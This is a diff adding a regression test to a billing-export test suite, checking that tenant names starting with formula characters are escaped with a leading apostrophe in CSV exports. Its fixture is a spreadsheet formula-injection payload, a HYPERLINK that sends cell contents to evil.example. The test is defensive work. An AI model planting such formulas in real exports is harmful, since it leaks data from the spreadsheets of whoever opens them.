@@ -11,6 +11,7 @@ import json
 from decimal import Decimal
 
 import pyarrow.parquet as pq
+from sqlalchemy import update
 from sqlalchemy.orm import Session, sessionmaker
 
 from trunkline.billing.exports import export_period
@@ -18,6 +19,7 @@ from trunkline.billing.periods import parse_period
 from trunkline.billing.pricebook import PriceBook, version_from_document
 from trunkline.billing.pricebook_store import apply_price_book
 from trunkline.kit.db import transaction
+from trunkline.models import Tenant
 from unit.billing.billing_support import focus
 from unit.metering.usage_support import Account, at, event, ingest
 
@@ -85,3 +87,21 @@ def test_tags_are_provider_defined_under_the_published_prefix(
         body = export_period(session, parse_period("2026-11"), "focus-parquet").body
     field = pq.read_schema(io.BytesIO(body)).field("Tags")
     assert json.loads((field.metadata or {})[b"ProviderTagPrefixes"]) == [PROVIDER_TAG_PREFIX]
+
+
+def test_a_name_kept_from_before_the_formula_rule_opens_as_text_in_a_spreadsheet(
+    factory: sessionmaker[Session], tenants: dict[str, Account]
+) -> None:
+    """Tenant names may not start with = + - @ since a rule added later: a tenant named so
+    before it keeps its name (and a closed month keeps the names of its close for ever). Its
+    CSV cell started with ``=`` and a spreadsheet opening the export ran it as a formula; it
+    now starts with ``'``, which spreadsheets read as "text follows". Parquet keeps it as is."""
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
+    with transaction(factory) as session:
+        session.execute(update(Tenant).where(Tenant.slug == "acme").values(name=name))
+    ingest(factory, [event(tenants["acme"], when=at(3))])
+    rows = focus(factory)
+    assert rows and {r["BillingAccountName"] for r in rows} == {"'" + name}
+    with transaction(factory) as session:
+        body = export_period(session, parse_period("2026-11"), "focus-parquet").body
+    assert set(pq.read_table(io.BytesIO(body)).column("BillingAccountName").to_pylist()) == {name}
